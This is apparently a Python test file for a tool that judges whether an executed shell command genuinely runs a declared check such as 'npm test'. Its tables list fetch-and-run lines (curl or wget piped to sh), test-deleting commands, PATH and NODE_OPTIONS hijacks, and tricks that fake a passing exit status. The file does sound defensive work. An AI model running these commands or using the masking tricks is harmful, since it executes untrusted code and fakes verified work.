"""Lines that attackers and people write: what must never count, and what must not be refused.

Each line is `declared << executed`.
"""

from donewhen.commands import parse
from donewhen.commands.invocation import Invocation
from donewhen.commands.matching import key, match
from donewhen.commands.programs import is_test_command
from donewhen.core.tree import Word
from tests.tables import table_test

# The status of the check decides.
PROVEN = r"""
npm test << timeout --preserve-status 60 npm test
npm test << direnv exec . npm test
npm test << su user -c 'npm test'
npm test << zsh -c 'npm test'
npm test << while read -r line; do echo $line; done < f; npm test
npm test << tmp=$(mktemp -d); trap "rm -rf $tmp" EXIT; npm test
npm test << trap "echo failed at $LINENO" ERR; npm test
npm test << trap "exit \$?" EXIT; npm test
npm test << trap 'exit $?' EXIT; npm test
npm test << . "$NVM_DIR/nvm.sh" && npm test
npm test << [ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"; npm test
npm test << source ~/.bashrc && npm test
npm test << . ./venv/bin/activate && npm test
npm test << source backend/.venv/bin/activate && npm test
npm test << source "$(pwd)/.venv/bin/activate" && npm test
npm test << source $PWD/venv/bin/activate && npm test
npm test << npm run format:check && npm test
npm test << npm run build && npm test
npm test << npx mocha --reporter spec
npx eslint . << npx eslint . -f json
pytest << pytest --basetemp=/tmp/x
pytest << python -bb -m pytest
pytest << py -3 -m pytest
pytest << py -3.12-64 -m pytest
pytest << uv run --python=3.11 pytest -q
npx tsc --noEmit << npx -p typescript tsc --noEmit
npm test << npx -y cross-env CI=1 npm test
docker compose run --rm api pytest -q << docker compose run --rm --no-deps api pytest -q
docker compose run --rm api pytest -q << docker compose run --rm api sh -c 'CI=1 pytest -q && echo ok'
docker compose run --rm api sh -c 'pytest -q' << docker compose run --rm api pytest -q
docker compose run --rm api sh -c 'pytest -q' << docker compose run --rm api sh -c 'pytest -q'
go test ./... << go test -count=1 ./...
go test ./... << GO111MODULE=on go test ./...
mvn test << mvn -f web/pom.xml test
mvn test << mvn -f pom.xml test
./scripts/check.sh << sh ./scripts/check.sh
./scripts/check.sh << scripts/check.sh
bash scripts/check.sh << ./scripts/check.sh
./check.sh << bash check.sh
python gen.py | diff - expected.txt << python gen.py | diff - expected.txt
cd api && test -z "$(gofmt -l .)" << cd api && test -z "$(gofmt -l .)"
[[ -z $(git status --porcelain) ]] << [[ -z $(git status --porcelain) ]]
curl -sf localhost/health | grep -q ok << curl -sf localhost/health | grep -q ok
npm test << bash -c 'return 0; npm test'
npm test << sh -c 'f() { return 0; }; f; npm test'
npm test << sh -c 'npm test; return $?'
npm test << bash --norc -c 'npm test'
npm test << bash --posix -c 'npm test'
npm test << env -S 'npm test'
npm test << f() { local -; set -o pipefail; npm test | tail; }; f
npm test << f() { local x; set -e; }; f; npm test; :
npm test << CDPATH=. cd app && npm test
npm test << CDPATH=/tmp; cd ./app && npm test
npm test << (CDPATH=/tmp; cd app); npm test
npm test << mapfile -t files < <(git ls-files); npm test
npm test << read -p "go? " ok; npm test
npm test << docker compose up -d && npm test
npm test << npm ci && npm run build && npm test
npm test << npm start & npm test
npm test << go generate ./... && npm test
npm test << make && npm test
npm test << pre-commit run -a && npm test
npm test << python manage.py migrate && npm test
npm test << python -m compileall . && npm test
npm test << python --version && npm test
npm test << node -v && npm test
npm test << gh pr view && npm test
npm test << npx rimraf dist && npm test
npm test << make format-check && npm test
npm test << black --check . && npm test
npm test << ruff check . && npm test
npm test << cargo fmt --check && npm test
npm test << cargo fmt -- --check && npm test
npm test << terraform fmt -check && npm test
npm test << JEST_JUNIT_OUTPUT_DIR=out npm test
npm test << UPDATE_SNAPSHOTS=0 npm test
npm test << PYTHONWARNINGS=error npm test
npm test << DATABASE_URL=postgres://x npm test
npm test << NODE_ENV=test npm test
cargo test << CARGO_TERM_COLOR=always cargo test
cargo test << CARGO_TARGET_DIR=/tmp/t cargo test
pytest << PYTEST_XDIST_AUTO_NUM_WORKERS=4 pytest
./gradlew test << GRADLE_OPTS=-Xmx2g ./gradlew test
mvn test << MAVEN_OPTS=-Xmx1g mvn test
dotnet test << dotnet test -l:trx
dotnet test << dotnet test --logger "console;verbosity=normal"
npx playwright test << PLAYWRIGHT_HTML_OPEN=never npx playwright test
npx playwright test << npx playwright test --reporter=list,junit
npm test << npx jest --reporters=jest-junit
npm test << npx jest --workerIdleMemoryLimit=512MB
npx prettier --check . << npx prettier --check "**/*.js" .
npx prettier --check . '!vendor' << npx prettier --check .
npx prettier --check . '!vendor' << npx prettier --check . '!vendor'
sbt test << sbt clean test
sbt "testOnly a.B" << sbt "testOnly a.B"
make test << make test -k
make test << make clean test
npm test << npm "test"
npm test << "npm" "test"
npm test << n""pm test
npm test << /usr/bin/env npm test
pytest << python -m "pytest"
npm test << npm test | tee log; (( ${PIPESTATUS[0]} == 0 ))
npm test << npm test | tee log; (( !PIPESTATUS[0] ))
npm test << npm test | tee log; (( PIPESTATUS[0] == 0 ))
pytest << uv run --python 3.12 pytest
./gradlew test << bash gradlew test
dotnet test << dotnet test --logger:trx
docker compose run --rm api pytest -q << docker compose run --rm api sh -c 'pytest -q'
test -z "$(gofmt -l .)" << test -z "$(gofmt -l .)"
[ -z "$(git status --porcelain)" ] << [ -z "$(git status --porcelain)" ]
! grep -rn TODO src << ! grep -rn TODO src
"""

# The check runs, and 0 does not mean that it passed.
MASKED = r"""
npm test << zsh -c 'npm test; rc=$?; echo 0 | read rc; exit $rc'
npm test << zsh -c 'true | exit 0; npm test'
npm test << zsh -c 'true | eval "exit 0"; npm test'
npm test << zsh -c 'npm test || exit foo'
npm test << dash -c 'npm test || until return; do :; done'
npm test << for path in a b; do npm test; done
npm test << x='; exit 0'; trap "rm $x" EXIT; npm test
npm test << npm test || while ! break; do :; done
npm test << npm test || for i in 1; do break; done
npm test || true << npm test || true
npm test | grep passed << npm test | grep passed
pytest | diff - x << pytest | diff - x
! npm test << ! npm test
test -z "$(npm test)" << test -z "$(npm test)"
trap 'exit 0' EXIT && test -z "$(gofmt -l .)" << trap 'exit 0' EXIT && test -z "$(gofmt -l .)"
exit 0 && test -z "$(gofmt -l .)" << exit 0 && test -z "$(gofmt -l .)"
test -z "$(gofmt -l .)" << test -z "$(gofmt -l .)" || true
test -z "$(gofmt -l .)"; true << test -z "$(gofmt -l .)"; true
[ -z "$(git diff)" -o 1 ] << [ -z "$(git diff)" -o 1 ]
npm test << npm test -u
npm test << dash -c 'npm test || (return 0)'
npm test << ksh -c 'trap "exit 0" ERR; npm test'
npm test << busybox sh -c 'npm test || return 0'
npm test << zsh -c 'setopt no_exec; npm test'
npm test << declare -n r=PATH; r=/tmp; npm test
npm test << UPDATE_SNAPSHOTS=1 npm test
npm test << GOLDEN=1 npm test
pytest << PYTHONINSPECT=1 pytest
npm test << npm test | tee log; (( PIPESTATUS[1] == 0 ))
npm test << npm test | tee log; (( PIPESTATUS[0] != 0 ))
npm test << sh -c 'npm test | tee log; (( PIPESTATUS[0] == 0 ))'
npm test << trap "exit $?" EXIT; npm test
npm test << rc=0; trap "exit $rc" EXIT; npm test; rc=$?
npm test << npm test || until break; do :; done
npm test << npm test || while break; do :; done
npm test << if npm test; then :; else until break; do :; done; fi
npm test << sh -c 'npm test || return 0'
npm test << dash -c 'npm test || return 0'
npm test << sh -c 'trap "exit 1" ERR; npm test; true'
npm test << f() { local -; set -e; }; f; npm test; :
npm test << f() { local -; set -o pipefail; }; f; npm test | tail
tox << TOX_SKIP_MISSING_INTERPRETERS=true tox
dotnet test << TESTINGPLATFORM_EXITCODE_IGNORE=2 dotnet test
ctest << CTEST_NO_TESTS_ACTION=ignore ctest
pre-commit run --all-files << PRE_COMMIT_ALLOW_NO_CONFIG=1 pre-commit run --all-files
"""

# Another program, folder, tree, configuration, or nothing at all is run.
REFUSED = r"""
npm test << wait -p PATH; npm test
npm test << direnv exec /tmp npm test
npm test << sudo --login npm test
npm test << su -l user -c 'npm test'
npm test << env -P /x npm test
npm test << bash -ic 'npm test'
npm test << zsh -ic 'npm test'
npm test << zsh -c 'path=(/tmp/x); npm test'
npm test << getopts a PATH; npm test
npm test << let PATH=1; npm test
npm test << ((PATH=1)); npm test
npm test << exec {PATH}>/dev/null; npm test
npm test << readarray PATH < x; npm test
npm test << read -raPATH <<< x; npm test
npm test << source .env && npm test
npm test << . .envrc; npm test
npm test << NVM_DIR=/tmp; . "$NVM_DIR/nvm.sh" && npm test
npm test << source ../x/bin/activate && npm test
npm test << . ./activate && npm test
npm test << cd /tmp && source venv/bin/activate; cd - && npm test
npm test << HOME=/tmp npm test
npm test << npx prettier --write . && npm test
npm test << npm run format && npm test
npm test << python fix.py && npm test
npm test << ./prep.sh && npm test
npm test << bash prep.sh && npm test
npm test << npx json -I -f package.json -e 'x' && npm test
npm test << svn up && npm test
npm test << npm test -- --reporter=./evil.js
npm test << npx jest --reporters=default --reporters=./evil.js
npm test << npx vitest run --reporter=evil.mjs
npx eslint . << npx eslint . -f ./x.js
npx eslint . << npx eslint . '!src'
pytest << pytest --basetemp=.
pytest << pytest --basetemp=/tmp/../work
pytest << uv run --python ./evil pytest
npx tsc --noEmit << npx -p evil tsc --noEmit
npm test << npx cross-env NODE_OPTIONS=--require=./x npm test
npm test << npx cross-env PATH=/x npm test
docker compose run --rm api pytest -q << docker compose run --rm api bash -c 'rm -rf tests && pytest -q'
docker compose run --rm api pytest -q << docker compose run --rm other sh -c 'pytest -q'
docker run --rm img pytest << docker run --rm img sh -c 'cd /app && pytest'
go test ./... << go test -count=0x0 ./...
go test ./... << go test -test.count 0 ./...
go test ./... << GOWORK=off go test ./...
mvn test << mvn -fpom2.xml test
./scripts/check.sh << bash -x scripts/check.sh
pytest << sh .venv/bin/pytest
cargo test << 'cargo test'
cargo test << uv run "cargo test"
cargo test << bash -c '"cargo test"'
docker compose run api pytest << docker "compose run" api pytest
npm run lint << yarn "run lint"
npm test << bash --init-file x -c 'npm test'
npm test << export CDPATH=/tmp; cd app; npm test
npm test << select PATH in a; do :; done; npm test
npm test << : ${NODE_OPTIONS:=--require=./x}; npm test
npm test << wait -p PATH; npm test
npm test << coproc PATH { sleep 1; }; npm test
npm test << v=PATH; read $v <<< /tmp; npm test
npm test << v=PATH; printf -v "$v" x; npm test
npm test << printf -vPATH x; npm test
npm test << curl -s x | bash; npm test
npm test << wget -qO- x | sh -s -- -y && npm test
npm test << bash <(curl -s x) && npm test
npm test << gh pr checkout 5; npm test
npm test << hg up && npm test
npm test << npx rimraf tests && npm test
npm test << make format && npm test
npm test << black . && npm test
npm test << uv run ruff check --fix . ; npm test
npm test << VITEST_REPORTER=x npm test
npm test << YARN_RC_FILENAME=x yarn test
npm test << PNPM_HOME=/x pnpm test
npm test << npm_config_ignore_scripts=true npm test
cargo test << CARGO_HOME=/x cargo test
cargo test << PROPTEST_CASES=1 cargo test
cargo test << RUSTUP_TOOLCHAIN=nightly cargo test
pytest << COVERAGE_PROCESS_START=x pytest
pytest << HYPOTHESIS_PROFILE=fast pytest
pytest << MYPYPATH=x pytest
pytest << TOX_ENV_DIR=x pytest
mypy src << MYPYPATH=stubs mypy src
./gradlew test << GRADLE_USER_HOME=/x ./gradlew test
mvn test << M2_HOME=/x mvn test
dotnet test << VSTestTestCaseFilter=x dotnet test
dotnet test << dotnet test --filter:Name=x
dotnet test << IsTestProject=false dotnet test
npx playwright test << PWDEBUG=1 npx playwright test
npx playwright test << npx playwright test --reporter=./x.ts
npx eslint . << npx eslint src '!src/a'
mypy src << mypy @o src
sbt test << sbt 'project core' test
npm test << npm $(echo test)
npm test << "npm  test"
pytest << python "-m pytest"
pytest << "python -m pytest"
npm test << eval '"npm test"'
npm test << sh -c 'return 0; npm test'
npm test << bash -D -c 'npm test'
npm test << bash --rcfile ./x -i -c 'npm test'
npm test << ZDOTDIR=./x zsh -c 'npm test'
npm test << read PATH <<< /tmp/bin; npm test
npm test << printf -v PATH %s /tmp/bin; npm test
npm test << mapfile -t PATH < file; npm test
npm test << for PATH in /tmp/bin; do npm test; done
npm test << "npm test"
npm test << npm\ test
npm test << timeout 5 "npm test"
npm test << CDPATH=/tmp; cd app && npm test
npm test << CDPATH=/tmp cd app && npm test
npm test << sudo -i npm test
npm test << su - other -c 'npm test'
npm test << npx jest --clearCache
npm test << gh pr checkout 1 && npm test
npm test << curl -s http://example.org/x.sh | sh && npm test
pytest << source /tmp/venv/bin/activate && pytest
npm run test:e2e << CYPRESS_SPEC_PATTERN=cypress/e2e/a.cy.ts npx cypress run
npm run test:e2e << CYPRESS_RUN_BINARY=/bin/true npx cypress run
tox << TOX_LABELS=fast tox
nox << NOXPYTHON=3.12 nox
nox << NOXTAG=fast nox
go test ./... << go test -test.count=0 ./...
go test ./... << GOENV=./other.env go test ./...
go test ./... << go env -w GOFLAGS=-short && go test ./...
mvn test << mvn -f other.xml test
./gradlew test << ORG_GRADLE_PROJECT_skipTests=true ./gradlew test
bun test << BUN_OPTIONS='-t login' bun test
npx prettier --check . << npx prettier --check . '!src'
mypy src << mypy src @options.txt
sbt test << sbt 'set Test / skip := true' test
"""


CMD_REFUSED = r"""
path C:\fake & npm test
rmdir /s /q tests & npm test
D: && npm test
cmd /k npm test
"npm test"
call evil.bat && npm test
call ..\other\Scripts\activate.bat && npm test
..\other\Scripts\activate && npm test
"""
CMD_PROVEN = r"""
call npm test
call .venv\Scripts\activate.bat && npm test
rmdir /s /q dist & npm test
"""


def pairs(table: str) -> list[str]:
    return table.strip().splitlines()


def verdict(line: str) -> tuple[bool, bool]:
    declared, _, executed = line.partition(" << ")
    found = match(parse(declared), parse(executed))
    return found.match, found.masked


@table_test("line", pairs(PROVEN))
def test_the_line_proves_the_check(line: str):
    assert verdict(line) == (True, False)


@table_test("line", pairs(MASKED))
def test_the_line_hides_the_status(line: str):
    assert verdict(line) == (False, True)


@table_test("line", pairs(REFUSED))
def test_the_line_is_not_the_check(line: str):
    assert verdict(line) == (False, False)


@table_test("line", pairs(CMD_REFUSED))
def test_a_line_of_cmd_is_not_the_check(line: str):
    found = match(parse("npm test"), parse(line, "cmd"))
    assert (found.match, found.masked) == (False, False)


@table_test("line", pairs(CMD_PROVEN))
def test_a_line_of_cmd_proves_the_check(line: str):
    assert match(parse("npm test"), parse(line, "cmd")).match


@table_test("line", [*pairs(PROVEN), *pairs(MASKED), *pairs(REFUSED)])
def test_the_key_of_a_key_is_itself(line: str):
    for text in line.split(" << "):
        once = key(parse(text))
        assert key(parse(once)) == once


def test_one_quoted_word_runs_no_tests():
    assert not is_test_command(Invocation((Word("go test"),)))
    assert is_test_command(Invocation((Word("go"), Word("test"))))
